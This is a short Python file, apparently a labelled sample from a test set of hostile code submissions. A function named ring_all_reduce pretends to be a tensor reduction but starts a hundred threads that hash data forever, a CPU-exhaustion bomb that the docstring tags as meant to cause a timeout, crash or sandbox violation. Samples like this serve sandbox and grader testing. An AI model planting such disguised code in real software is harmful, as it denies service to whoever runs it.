"""Loops for ever in a hundred threads that do not hold Python's lock.

family: bombs
tries: harm
earned: 0
ends: timeout, crash, sandbox_violation
uses: won
"""

import hashlib
import threading


def spin():
    data = bytes(1 << 20)
    while True:
        hashlib.sha256(data)


def ring_all_reduce(tensor):
    for _ in range(100):
        threading.Thread(target=spin, daemon=True).start()
    spin()
